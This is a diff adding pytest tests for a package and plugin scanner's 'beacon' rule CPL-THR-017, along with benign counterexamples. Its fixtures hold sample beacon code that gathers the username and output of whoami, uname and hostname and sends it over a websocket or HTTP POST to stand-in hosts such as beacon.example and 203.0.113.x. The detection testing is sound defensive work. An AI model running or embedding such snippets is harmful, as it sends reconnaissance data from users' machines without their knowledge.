@@ -326,3 +326,69 @@ def test_settings_read_by_a_loop_over_their_names_and_sent_are_not() -> None:
     """
     assert "CPL-THR-006" not in danger(source)
     assert "CPL-THR-006" not in danger(source, mode=ScanMode.PLUGIN)
+
+
+# -- blind14: a websocket's URL is a fixed host; a beacon's commands run by a loop ------------
+
+_WEBSOCKET_BEACONS = {
+    "websocket-getuser": """
+    import getpass, websocket
+    ws = websocket.create_connection("ws://203.0.113.180:8765/b")
+    ws.send(getpass.getuser())
+    """,
+    "loop-of-recon-commands": """
+    import json, subprocess, websocket
+    info = {c: subprocess.check_output(c, shell=True, text=True) for c in ("whoami", "uname -a")}
+    ws = websocket.create_connection("wss://beacon.example/b")
+    ws.send(json.dumps(info))
+    """,
+    "for-loop-requests": """
+    import subprocess, requests
+    out = []
+    for cmd in ["hostname", "whoami"]:
+        out.append(subprocess.getoutput(cmd))
+    requests.post("http://203.0.113.181/r", data="\\n".join(out))
+    """,
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_WEBSOCKET_BEACONS))
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_host_data_sent_over_a_websocket_or_by_a_loop_of_commands_is_a_beacon(
+    shape: str, mode: ScanMode
+) -> None:
+    assert "CPL-THR-017" in danger(_WEBSOCKET_BEACONS[shape], mode=mode)
+
+
+@pytest.mark.parametrize("shape", sorted(_WEBSOCKET_BEACONS))
+def test_the_prefilter_keeps_a_websocket_or_looped_beacon(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    source = textwrap.dedent(_WEBSOCKET_BEACONS[shape])
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-017")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a development server's live-reload websocket on this machine
+        """
+        import getpass, websocket
+        ws = websocket.create_connection("ws://localhost:8765/reload")
+        ws.send(getpass.getuser())
+        """,
+        # a build's version report: a loop of commands, none of which describes the host
+        """
+        import json, subprocess, requests
+        cmds = ("git describe", "gcc --version")
+        report = {c: subprocess.check_output(c, shell=True, text=True) for c in cmds}
+        requests.post("https://ci.example/report", data=json.dumps(report))
+        """,
+    ],
+    ids=["local-websocket", "build-commands"],
+)
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_a_local_websocket_or_a_loop_of_build_commands_is_no_beacon(
+    source: str, mode: ScanMode
+) -> None:
+    assert "CPL-THR-017" not in danger(source, mode=mode)
